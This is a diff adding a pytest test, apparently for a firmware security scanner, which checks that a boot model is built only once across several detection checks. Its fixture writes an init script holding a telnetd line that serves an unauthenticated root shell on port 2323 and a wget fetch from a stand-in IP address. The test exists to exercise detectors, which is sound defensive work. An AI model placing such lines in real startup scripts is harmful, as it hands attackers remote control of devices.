@@ -206,3 +206,38 @@ def test_light_parts_go_out_together_heavy_ones_alone() -> None:
     )
     assert [len(keys) for _w, keys in tasks[1:]] == [4, 4, 2]  # up to the threshold a task, the rest last
     assert sum(w for w, _k in tasks) == pytest.approx(sum(w for w, _k in heavy + light))
+
+
+def test_the_boot_model_is_built_once_for_the_checks_that_read_it(
+    tree: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from assay.analysis import initsystem
+
+    (tree.parent / "boot").mkdir(exist_ok=True)
+    root = tree.parent / "boot" / "rootfs"
+    if not root.exists():
+        shutil.copytree(tree, root, symlinks=True)
+        (root / "etc/inittab").write_text("::sysinit:/etc/init.d/rcS\n")
+        (root / "etc/init.d").mkdir()
+        rcs = root / "etc/init.d/rcS"
+        rcs.write_text("#!/bin/sh\ntelnetd -l /bin/sh -p 2323\nwget -q http://203.0.113.77/cfg -O /tmp/c\n")
+        rcs.chmod(0o755)
+    readers = [
+        c
+        for c in all_checks()
+        if c.id in ("remote-shell", "phone-home", "insecure-service", "service-exposure")
+    ]
+    assert len(readers) == 4
+    alone = sorted(f.id for c in readers for f in c.run(_context(root)))  # a memo each
+    built: list[object] = []
+    real = initsystem.boot_model
+
+    def counted(index: object) -> initsystem.BootModel:
+        built.append(index)
+        return real(index)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(initsystem, "boot_model", counted)
+    together = run_checks(_context(root), readers, jobs=1)
+    assert len(built) == 1
+    assert sorted(_ids(together.findings)) == alone
+    assert any(f.rule == "remote-shell" for f in together.findings)
